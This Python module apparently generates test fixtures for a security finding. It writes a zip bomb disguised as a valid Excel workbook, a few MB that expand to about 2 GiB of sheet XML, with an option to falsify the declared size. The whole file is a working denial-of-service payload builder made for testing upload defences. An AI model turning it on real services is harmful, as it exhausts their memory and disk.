"""A zip bomb that is a valid Excel workbook: a few MB on disk, about 2 GiB of sheet XML.

Built in a second without compressing 2 GiB: one block of rows is deflated once, ended by a
full flush (no back-reference crosses it, and the stream is byte-aligned there), and that
block is repeated; a deflate reader inflates each copy to the same rows. The zip around it is
written by hand, as ``zipfile`` can only store data it compresses itself. Issue 15, finding 1.
"""

from __future__ import annotations

import struct
import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

GIB = 1 << 30
ROW = b"<row><c><v>1</v></c></row>"
"""One number in column A: a cell every reader must keep (an empty row costs it nothing)."""
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"

_PARTS = {
    "[Content_Types].xml": (
        f'<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
        'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
        'worksheet+xml"/></Types>'),
    "_rels/.rels": (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
    "xl/workbook.xml": (
        f'<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets><sheet name="Records" sheetId="1" '
        'r:id="rId1"/></sheets></workbook>'),
    "xl/_rels/workbook.xml.rels": (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{RELS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
}


def _column(i: int) -> str:
    name = ""
    i += 1
    while i:
        i, rem = divmod(i - 1, 26)
        name = chr(65 + rem) + name
    return name


def _deflated(data: bytes, *, last: bool) -> bytes:
    """Raw deflate of ``data`` from a fresh compressor: final, or ending in a full flush."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(zlib.Z_FINISH if last else zlib.Z_FULL_FLUSH)


def write_zip_bomb(path: Path, headers: list[str], *, size: int = 2 * GIB,
                   declared: int | None = None) -> int:
    """Write a one-tab workbook: ``headers`` in row 1, then ``ROW`` up to ``size`` bytes.

    Returns the sheet XML's uncompressed size (just under ``size``). With ``declared``, the
    zip's headers claim that size for the sheet instead (a bomb that lies about its size).
    """
    cells = "".join(f'<c r="{_column(i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
                    for i, h in enumerate(headers))
    head = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet '
            f'xmlns="{MAIN}"><sheetData><row r="1">{cells}</row>').encode()
    tail = b"</sheetData></worksheet>"
    block = ROW * (1 << 18)
    copies = (size - len(head) - len(tail)) // len(block)
    crc = zlib.crc32(head)
    for _ in range(copies):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    sheet_size = len(head) + copies * len(block) + len(tail)
    deflated = (_deflated(head, last=False) + _deflated(block, last=False) * copies
                + _deflated(tail, last=True))
    entries = [(name.encode(), text.encode(), 0) for name, text in _PARTS.items()]
    local, central = bytearray(), bytearray()
    for name, data, method in [*entries, (b"xl/worksheets/sheet1.xml", b"", 8)]:
        if method == 8:
            body, entry_crc, raw_size = deflated, crc, declared or sheet_size
        else:
            body, entry_crc, raw_size = data, zlib.crc32(data), len(data)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21,
                               entry_crc, len(body), raw_size, len(name), 0, 0, 0, 0, 0,
                               len(local)) + name
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, entry_crc,
                             len(body), raw_size, len(name), 0) + name + body
    n = len(entries) + 1
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), len(local), 0)
    path.write_bytes(bytes(local + central + end))
    return sheet_size
